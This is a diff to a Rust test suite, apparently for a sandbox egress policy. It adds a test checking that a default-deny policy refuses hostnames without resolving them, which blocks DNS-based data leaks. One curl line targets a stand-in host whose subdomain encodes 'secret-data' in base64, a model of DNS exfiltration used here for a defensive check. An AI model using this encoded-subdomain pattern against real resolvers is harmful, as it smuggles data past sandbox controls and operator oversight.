@@ -380,6 +380,34 @@ async fn a_rule_gives_each_sandbox_its_own_credential_and_no_sandbox_can_find_it
     assert_eq!(up.count(), before, "the request reached the upstream");
 }
 
+/// Under a policy that can allow no name (default deny, no network in its lists), a name is
+/// refused as asked, before anything resolves it: a sandbox cannot make the node look names
+/// up (a way to carry data out through DNS), and an unknown name gets the same 403 as any.
+#[tokio::test]
+async fn a_default_deny_policy_refuses_names_without_resolving_them() {
+    let node = Node::start().await;
+    let id = format!("egn-{}", unique());
+    node.client
+        .put_sandbox(
+            &id,
+            &create(
+                serde_json::json!({"egress": {"default": "deny", "allow_hosts": ["pypi.org"]}}),
+            ),
+        )
+        .await
+        .unwrap();
+    let c = &node.client;
+    for url in [
+        "http://c2VjcmV0LWRhdGE.exfil.invalid/",
+        "http://example.invalid:8080/x",
+    ] {
+        let out = sh(c, &id, &format!("curl -sS -m 20 {url}")).await;
+        let v: serde_json::Value = serde_json::from_str(&out)
+            .unwrap_or_else(|e| panic!("{url}: not a JSON answer ({e}): {out}"));
+        assert_eq!(v["code"], "EGRESS_DENIED", "{url}: {out}");
+    }
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_policy_denies_at_once_refuses_the_node_and_private_networks_and_travels_with_the_sandbox(
 ) {
